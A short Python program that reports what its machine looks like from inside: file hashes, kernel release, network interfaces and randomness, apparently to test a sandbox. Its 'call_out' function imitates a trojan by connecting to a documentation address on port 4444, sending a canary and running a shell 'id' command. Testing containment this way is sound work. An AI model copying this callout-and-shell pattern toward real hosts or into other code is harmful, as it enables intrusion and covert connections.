"""A program that tells what its machine looks like from inside. Standard library only."""

import hashlib
import os
import socket
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

Send = Callable[[Mapping[str, Any]], None]


def serve(request: Mapping[str, Any], send: Send) -> None:
    """Do what `do` says."""
    DEEDS[request["do"]](request, send)


def files(request: Mapping[str, Any], send: Send) -> None:
    """Tell the digest of each file below a path."""
    found = {}
    for path in sorted(Path(request["path"]).rglob("*")):
        if path.is_symlink():
            found[str(path)] = f"-> {path.readlink()}"
        elif path.is_file():
            found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    send({"files": found})


def kernel(_: Mapping[str, Any], send: Send) -> None:
    lines = Path("/proc/net/dev").read_text().splitlines()
    interfaces = [line.split(":")[0].strip() for line in lines if ":" in line]
    send({"release": os.uname().release, "interfaces": interfaces})


def draw(_: Mapping[str, Any], send: Send) -> None:
    send({"random": os.urandom(16).hex(), "address": id(object())})


def call_out(_: Mapping[str, Any], send: Send) -> None:
    """Do what a trojan does, towards an address for documentation."""
    send({"phase": "load"})
    said = []
    try:
        with socket.create_connection(("192.0.2.7", 4444), timeout=2) as out:
            out.sendall(b"canary")
    except OSError as e:
        said.append(str(e))
    try:
        subprocess.run(["/bin/sh", "-c", "id"], check=False)
    except OSError as e:
        said.append(str(e))
    send({"said": said})


DEEDS: dict[str, Callable[[Mapping[str, Any], Send], None]] = {
    f.__name__: f for f in (files, kernel, draw, call_out)
}
